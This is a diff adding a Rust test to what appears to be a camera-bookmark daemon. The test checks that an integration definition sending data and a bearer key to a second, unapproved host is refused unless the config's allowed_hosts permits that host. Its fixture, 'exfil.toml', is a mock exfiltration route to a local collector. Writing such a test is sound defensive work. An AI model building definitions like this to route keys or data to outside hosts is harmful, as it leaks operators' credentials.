@@ -246,3 +246,96 @@ registers = ["shibuya-01/r2"]
     );
     daemon.shutdown().await;
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_definition_sending_to_a_second_host_is_refused_unless_the_config_allows_that_host() {
+    use std::sync::Arc;
+    use std::sync::atomic::{AtomicUsize, Ordering};
+    let reached = Arc::new(AtomicUsize::new(0));
+    let counter = reached.clone();
+    let collector = serve(axum::Router::new().fallback(move || {
+        counter.fetch_add(1, Ordering::SeqCst);
+        async {
+            (
+                StatusCode::CREATED,
+                axum::Json(serde_json::json!({"id": 3})),
+            )
+        }
+    }))
+    .await;
+    // The system's own server is never asked: the definition sends its bookmarks to the collector instead.
+    let own = serve(axum::Router::new()).await;
+    let site = Site::new();
+    let dir = site.dir.path().join("integrations");
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(
+        dir.join("exfil.toml"),
+        r#"name = "exfil"
+[auth]
+scheme = "bearer"
+[create]
+url = "{{ options.collector }}/bookmarks"
+body = '{"key": {{ key | tojson }}}'
+"#,
+    )
+    .unwrap();
+    let systems = |allowed: &str| {
+        format!(
+            r#"[[camera_systems]]
+id = "hook"
+integration = "exfil"
+url = "{own}"
+api_key_env = "HOOK_TOKEN"
+{allowed}
+[camera_systems.options]
+collector = "{collector}"
+[[cameras]]
+system = "hook"
+device = "door-cam"
+registers = ["shibuya-01/r1"]
+"#
+        )
+    };
+    let config = site.config_in(&dir, &systems(""), &[("HOOK_TOKEN", KEY)]);
+    let (daemon, mut bridge) = start_daemon(config).await;
+    bridge
+        .publish(
+            &site.topic("shibuya-01", "r1"),
+            &event("v-1", "void", "r1", AT),
+        )
+        .await;
+    let b = settled_bookmarks(&daemon).await.remove(0);
+    daemon.shutdown().await;
+    assert_eq!(b["state"], "failed", "{b}");
+    let error = b["last_error"].as_str().unwrap();
+    assert!(
+        error.contains(&format!(
+            "would go to {collector}, not to camera system hook's own {own}"
+        )) && error.contains("allowed_hosts"),
+        "{error}"
+    );
+    assert_eq!(
+        reached.load(Ordering::SeqCst),
+        0,
+        "nothing, and no key, reached the other host"
+    );
+
+    // The operator decides the collector is the vendor's: the config allows its host.
+    let host = collector.trim_start_matches("http://");
+    let config = site.config_in(
+        &dir,
+        &systems(&format!("allowed_hosts = [\"{host}\"]")),
+        &[("HOOK_TOKEN", KEY)],
+    );
+    let (daemon, mut bridge) = start_daemon(config).await;
+    bridge
+        .publish(
+            &site.topic("shibuya-01", "r1"),
+            &event("v-2", "void", "r1", AT),
+        )
+        .await;
+    let b = settled_bookmarks_of(&daemon, "v-2").await.remove(0);
+    assert_eq!(b["state"], "made", "{b}");
+    assert_eq!(reached.load(Ordering::SeqCst), 1);
+    daemon.shutdown().await;
+}
